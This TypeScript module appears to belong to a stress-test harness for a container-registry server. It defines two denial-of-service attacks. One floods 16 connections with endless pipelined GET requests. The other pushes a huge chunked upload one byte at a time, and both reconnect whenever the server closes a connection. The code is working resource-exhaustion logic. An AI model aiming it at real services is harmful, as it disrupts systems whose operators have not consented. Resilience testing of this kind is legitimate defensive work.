/** Few connections that cause much work with few bytes, and reconnect when they are closed. */
import { setTimeout as sleep } from "node:timers/promises";
import type { Attack, AttackTarget } from "./attack.js";
import { ended, open, send } from "./sockets.js";
import { oneByteChunks } from "./tiny-chunks.js";

const connections = 16;

/** Pause before a reconnect. */
const pauseMilliseconds = 10;

/** Sends `head` and then `pieces`, again on a new connection whenever the server has closed one. */
async function insist(target: AttackTarget, head: string, pieces: () => Iterable<string>): Promise<void> {
  while (!target.signal.aborted) {
    const socket = open(target);
    await send(socket, [head]);
    await send(socket, pieces());
    await ended(socket);
    await sleep(pauseMilliseconds);
  }
}

function insistAll(target: AttackTarget, head: string, pieces: () => Iterable<string>): Promise<unknown> {
  return Promise.all(Array.from({ length: connections }, () => insist(target, head, pieces)));
}

/** Requests per write: as many as a server may read at once. */
const requestsPerWrite = 15_000;

function* endlessRequests(): Generator<string> {
  const requests = "GET /v2/ HTTP/1.1\r\nHost: a\r\n\r\n".repeat(requestsPerWrite);
  for (;;) yield requests;
}

export const pipelinedGets: Attack = {
  name: "pipelined-gets",
  what: `${connections} connections send GET /v2/ without waiting for responses`,
  waitMillisecondsMax: 100,
  run: async (target) => {
    await insistAll(target, "", endlessRequests);
  },
};

export const oneByteChunksPush: Attack = {
  name: "one-byte-chunks",
  what: `${connections} connections push blobs in chunks of one byte as fast as they can`,
  waitMillisecondsMax: 100,
  run: async (target) => {
    const path = `/v2/attack/image/blobs/uploads/?digest=sha256:${"0".repeat(64)}`;
    const head = `POST ${path} HTTP/1.1\r\nHost: localhost\r\nTransfer-Encoding: chunked\r\n\r\n`;
    await insistAll(target, head, () => oneByteChunks(100_000_000));
  },
};
